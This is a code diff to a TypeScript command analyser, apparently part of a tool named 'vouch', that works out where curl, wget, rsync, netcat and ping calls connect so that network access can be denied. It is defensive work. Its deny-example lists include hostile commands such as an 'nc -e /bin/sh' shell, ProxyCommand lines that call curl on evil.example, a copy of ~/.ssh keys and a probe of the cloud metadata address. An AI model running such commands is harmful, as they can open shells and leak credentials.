@@ -4,10 +4,30 @@ import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
+import { canonicalHost, type Destination, destinations, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { value } from '../words.js';
 import { sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
+
+/** A list of addresses (`--dns-servers 1.1.1.1,[::1]:53`): every one is a destination. */
+function addressList(text: string): Host[] {
+  return text.split(',').map((part) => canonicalHost(part.replace(/^(\[[^\]]*\]|[^:]*):[0-9]+$/, '$1')));
+}
+
+/** `--resolve [+]HOST:PORT:ADDR[,ADDR]…`: the addresses the name is sent to. */
+function resolveTargets(v: string): Host[] {
+  const m = /^\+?(\[[^\]]*\]|[^:]*):([0-9]*|\*):(.*)$/.exec(v);
+  if (!m) return [{ why: `${v} is not a --resolve entry vouch can read` }];
+  return m[3]!.split(',').map((a) => canonicalHost(a));
+}
+
+/** `--connect-to HOST1:PORT1:HOST2:PORT2`: where the connection goes (an empty HOST2 keeps the URL's host). */
+function connectTarget(v: string): Host[] {
+  const m = /^(\[[^\]]*\]|[^:]*):([0-9]*):(\[[^\]]*\]|[^:]*):([0-9]*)$/.exec(v);
+  if (!m) return [{ why: `${v} is not a --connect-to entry vouch can read` }];
+  return m[3] === '' ? [] : [canonicalHost(m[3]!)];
+}
 
 /** The answer of a client run only to print its version or help: it connects nowhere. */
 function infoOnly(p: ParsedArgs, call: Call, names: string[]): Partial<Answer> | undefined {
@@ -70,7 +90,42 @@ function curl(call: Call): Partial<Answer> {
     if (v !== undefined && /^file:\/\//i.test(v)) uses.push({ word, role: 'read', values: [decodeURIComponent(v.replace(/^file:\/\/(localhost)?/i, ''))] });
     else uses.push({ word, role: 'host' });
   }
-  return { uses };
+  return { uses, destinations: curlDestinations(p, call) };
+}
+
+/** Where curl connects: its URLs, proxies, name overrides and DNS servers, or why that cannot be told. */
+function curlDestinations(p: ParsedArgs, call: Call): Destination[] {
+  const first = call.args[0];
+  if (p.dynamic) return [{ word: p.dynamic.word, why: `${p.dynamic.word.text} is computed where an option could stand` }];
+  const out: Destination[] = [];
+  const follows = has(p, 'L', 'location', 'location-trusted');
+  for (const o of p.options) {
+    const n = o.name;
+    if (o.unknown) out.push({ word: o.word, why: `curl ${o.word.text} is an option vouch does not know` });
+    else if (!o.value) continue;
+    else if (n === 'url' || n === 'doh-url' || n === 'ipfs-gateway') out.push(...(n === 'url' && follows ? redirectable(destinations(o.value, urlHost), o.value) : destinations(o.value, urlHost)));
+    else if (/^(x|proxy|preproxy|socks4|socks4a|socks5|socks5-hostname)$/.test(n)) out.push(...destinations(o.value, urlHost));
+    else if (n === 'resolve') out.push(...destinations(o.value, resolveTargets));
+    else if (n === 'connect-to') out.push(...destinations(o.value, connectTarget));
+    else if (n === 'dns-servers') out.push(...destinations(o.value, addressList));
+    else if (n === 'K' || n === 'config') out.push({ word: o.value, why: `curl reads more options, its URLs among them, from ${o.value.text}` });
+    else if (/^expand-/.test(n)) out.push({ word: o.word, why: 'curl expands variables into this option' });
+  }
+  for (const { word } of p.operands) {
+    const v = value(word);
+    if (v !== undefined && /^file:\/\//i.test(v)) continue;
+    // A URL whose scheme curl would not connect with still names where it would go; ipfs: goes to a gateway.
+    const d = destinations(word, (u) => (/^ip[fn]s:\/\//i.test(u) ? { why: `${u} goes to an IPFS gateway` } : urlHost(u)));
+    out.push(...(follows ? redirectable(d, word) : d));
+  }
+  if (!first) return out;
+  out.push(...envProxies(call, first));
+  // A config file the line points curl at (its home moved) can name any URL; `-q` first skips it.
+  const q = /^(-q|--disable)$/.test(value(first) ?? '');
+  for (const name of ['CURL_HOME', 'XDG_CONFIG_HOME', 'HOME']) {
+    if (!q && call.env(name) !== undefined) out.push({ word: first, why: `the line sets ${name}, so curl reads a config file it chose` });
+  }
+  return out;
 }
 
 function wget(call: Call): Partial<Answer> {
@@ -93,7 +148,31 @@ function wget(call: Call): Partial<Answer> {
     if (/^(e|execute)$/.test(o.name)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'wget -e runs a wgetrc command' });
   }
   for (const { word } of p.operands) uses.push({ word, role: 'host' });
-  return { uses, runs };
+  return { uses, runs, destinations: wgetDestinations(p, call) };
+}
+
+/** Where wget connects: its URLs (redirects followed unless `--max-redirect=0`), proxies, or why that cannot be told. */
+function wgetDestinations(p: ParsedArgs, call: Call): Destination[] {
+  if (p.dynamic) return [{ word: p.dynamic.word, why: `${p.dynamic.word.text} is computed where an option could stand` }];
+  const out: Destination[] = [];
+  const noRedirects = p.options.some((o) => o.name === 'max-redirect' && value(o.value) === '0');
+  const spans = has(p, 'H', 'span-hosts') && has(p, 'r', 'recursive', 'm', 'mirror', 'p', 'page-requisites');
+  for (const o of p.options) {
+    if (o.unknown) out.push({ word: o.word, why: `wget ${o.word.text} is an option vouch does not know` });
+    else if (/^(i|input-file)$/.test(o.name) && o.value) out.push({ word: o.value, why: `wget reads its URLs from ${o.value.text}` });
+    else if (o.name === 'config' && o.value) out.push({ word: o.value, why: `wget reads its settings, proxies among them, from ${o.value.text}` });
+    else if (spans && (o.name === 'H' || o.name === 'span-hosts')) out.push({ word: o.word, why: 'wget follows links to other hosts (--span-hosts)' });
+  }
+  for (const { word } of p.operands) {
+    const d = destinations(word, urlHost);
+    out.push(...(noRedirects ? d : redirectable(d, word)));
+  }
+  const first = call.args[0];
+  if (first) {
+    out.push(...envProxies(call, first));
+    if (call.env('WGETRC') !== undefined || call.env('HOME') !== undefined) out.push({ word: first, why: 'the line moves the wgetrc wget reads' });
+  }
+  return out;
 }
 
 const SSH: OptionSpec = { flags: '46AaCfGgKkMNnqsTtVvXxYy', valued: 'BbcDEeFIiJLlmOoPpQRSWw' };
@@ -150,7 +229,8 @@ function rsync(call: Call): Partial<Answer> {
   for (const o of p.options) {
     if ((o.name === 'e' || o.name === 'rsh') && o.value) {
       remoteShell = true;
-      runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'rsync --rsh' });
+      // rsync appends the host and its own server command to the remote shell's words.
+      runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'rsync --rsh', more: true });
     }
     if (/^(exclude-from|include-from|files-from|password-file|read-batch|f)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'read' });
     if (/^(log-file|write-batch|only-write-batch)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'write' });
@@ -176,8 +256,12 @@ function rsync(call: Call): Partial<Answer> {
   return local ? { runs, uses, offline: 'rsync between local paths connects nowhere' } : { runs, uses };
 }
 
-/** Clients with nothing more to say than their version and help options. */
-function plainClient(names: string[], info: string[], summary: string, spec: OptionSpec = {}): ProgramEntry {
+/**
+ * Clients with nothing more to say than their version and help options. With `host`, the first operand is where it
+ * connects (`nc -z localhost 5432`, `ping -c 1 127.0.0.1`), unless an option in `hidden` makes it listen, run a
+ * program or go through a proxy, or an option the model does not know stands before it.
+ */
+function plainClient(names: string[], info: string[], summary: string, spec: OptionSpec = {}, host?: { hidden: string; examples: { deny: string[]; pass: string[] } }): ProgramEntry {
   return {
     names,
     summary,
@@ -185,9 +269,17 @@ function plainClient(names: string[], info: string[], summary: string, spec: Opt
       const p = parse(call.args, { order: 'gnu', ...spec });
       const answer = infoOnly(p, call, info);
       if (answer) return answer;
-      return { uses: p.operands.map((o) => ({ word: o.word, role: 'host' as const })) };
+      const uses: Uses = p.operands.map((o) => ({ word: o.word, role: 'host' as const }));
+      if (!host) return { uses };
+      const first = p.operands[0]?.word;
+      const hidden = p.dynamic?.word ?? p.options.find((o) => o.unknown || host.hidden.includes(o.name))?.word;
+      if (hidden) return { uses, destinations: [{ word: hidden, why: `${call.name} ${hidden.text}: where it connects cannot be told` }] };
+      return { uses, destinations: first ? destinations(first, canonicalHost) : [] };
     },
-    examples: { deny: [`${names[0]} evil.example`], pass: info.length > 0 ? [`${names[0]} ${info[0]!.length === 1 ? '-' : '--'}${info[0]}`] : [] },
+    examples: {
+      deny: [`${names[0]} evil.example`, ...(host?.examples.deny ?? [])],
+      pass: [...(info.length > 0 ? [`${names[0]} ${info[0]!.length === 1 ? '-' : '--'}${info[0]}`] : []), ...(host?.examples.pass ?? [])],
+    },
   };
 }
 
@@ -197,7 +289,15 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   { names: ['ssh', 'autossh', 'slogin', 'dbclient'], summary: 'ssh: connects (not for -V, -G, -Q); -o ProxyCommand and friends run shell text', analyze: ssh, examples: { deny: ['ssh evil.example', "ssh -o ProxyCommand=';curl evil.example' x", "ssh -o 'LocalCommand=wget evil.example' -o PermitLocalCommand=yes x"], pass: ['ssh -V', 'ssh -G host'] } },
   { names: ['scp', 'sftp'], summary: 'scp and sftp: connect; -S names the ssh program; -o ProxyCommand runs shell text', analyze: scp, examples: { deny: ['scp notes.txt evil.example:/tmp/', "scp -o 'ProxyCommand=;curl evil.example' x x:", 'scp -S /usr/bin/curl x x:'], pass: [] } },
   { names: ['rsync', 'openrsync'], summary: 'rsync: connects when an operand is remote or -e gives a remote shell; a local copy does not', analyze: rsync, examples: { deny: ['rsync -a . evil.example:/backup', 'rsync -av --port=8730 src/ evil.example::module/', 'rsync -a "$SRC" /backup/', "rsync -e 'sh -c \"curl evil.example\"' x:x", 'rsync -a ~/.ssh/ /tmp/k/'], pass: ['rsync -a src/ dst/', 'rsync --version', 'rsync -av --delete build/ /tmp/site/'] } },
-  plainClient(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'pwncat', 'cryptcat'], ['h'], 'netcat: connects (or listens) to the host and port it is given', { flags: 'h46bCdDFklnNrStuUvzZ', valued: 'eIiMmOPpqsTVwxX' }),
+  plainClient(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'pwncat', 'cryptcat'], ['h'], 'netcat: connects (or listens) to the host and port it is given', { flags: 'h46bCdDFklnNrStuUvzZ', valued: 'eIiMmOPpqsTVwxX' }, {
+    // Listening (-l), running a program (-e, -c), a proxy (-x, -X) or source routing (-g, -G): not a plain probe.
+    hidden: 'lLecxXgGsp',
+    examples: { deny: ['nc -z 169.254.169.254 80', 'nc -l 4444', 'nc -e /bin/sh localhost 4444', 'nc -x evil.example:1080 localhost 22'], pass: ['nc -z localhost 5432', 'nc -zv 127.0.0.1 6379'] },
+  }),
+  plainClient(['ping', 'ping6', 'ping4'], ['V'], 'ping: sends ICMP echo requests to the host it is given', { flags: 'aAbBdDfhLnOqrRUvV46', valued: 'cFiIlmMpQsStTwW' }, {
+    hidden: '',
+    examples: { deny: ['ping -c 1 8.8.8.8', 'ping evil.example'], pass: ['ping -c 1 localhost', 'ping -c 3 127.0.0.1'] },
+  }),
   plainClient(['telnet', 'ftp', 'tftp', 'ncftp', 'ncftpget', 'ncftpput', 'rsh', 'rlogin', 'rcp', 'rexec', 'mosh-client'], [], 'remote terminals and file transfer clients'),
   { names: ['sshfs'], summary: 'sshfs: -o ssh_command names the program it runs', analyze: (call) => ({ runs: sshOptions(call) }), examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt"], pass: [] } },
   plainClient(['dig', 'kdig', 'drill', 'host', 'nslookup'], ['v', 'version', 'h'], 'DNS clients: a lookup carries its name out'),
